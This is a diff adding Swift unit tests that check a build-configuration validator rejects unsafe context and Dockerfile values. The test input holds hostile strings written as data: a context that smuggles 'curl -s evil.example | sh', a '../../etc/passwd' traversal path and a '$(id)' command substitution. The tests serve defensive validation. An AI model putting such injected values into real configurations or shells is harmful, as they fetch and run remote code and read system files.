@@ -195,3 +195,41 @@ struct ConfigurationTests {
         #expect(found.map { $0.split(separator: ":").prefix(2).joined(separator: ":") } == ["3:3", "5:13", "6:5"])
     }
 }
+
+@Suite("Values that reach workflows")
+struct WorkflowValueTests {
+    @Test("contexts and Dockerfiles are plain repository paths: nothing a shell would interpret")
+    func shellSafePaths() {
+        let found = problems("""
+            version: 1
+            services:
+              api:
+                paths: [a/**]
+                context: "services/api; curl -s evil.example | sh #"
+                dockerfile: ../../etc/passwd
+              web:
+                paths: [b/**]
+                context: /abs
+                dockerfile: "docker/$(id).Dockerfile"
+              ok:
+                paths: [c/**]
+                context: .
+                dockerfile: docker/ok@v1+x.Dockerfile
+            """)
+        #expect(found.count == 4)
+        #expect(found[0].hasPrefix("5:14: `services.api.context` must use only letters, digits and . _ - / @ +"))
+        #expect(found[1].hasPrefix("6:17: `services.api.dockerfile` must be a plain path inside the repository"))
+        #expect(found[2].hasPrefix("9:14: `services.web.context` must be relative to the repository root"))
+        #expect(found[3].hasPrefix("10:17: `services.web.dockerfile` must use only"))
+    }
+
+    @Test("a first path that names a file gives its directory as the build context")
+    func contextFromFilePath() throws {
+        let configuration = try Configuration(
+            parsing: "version: 1\nservices:\n  api: {paths: [\"services/api/a.py\", \"services/api/lib/**\"]}\n  web: {paths: [services/web]}\n",
+            file: "gantry.yml")
+        #expect(configuration.services[0].context == "services/api")
+        #expect(configuration.services[0].dockerfile == "services/api/Dockerfile")
+        #expect(configuration.services[1].context == "services/web")
+    }
+}
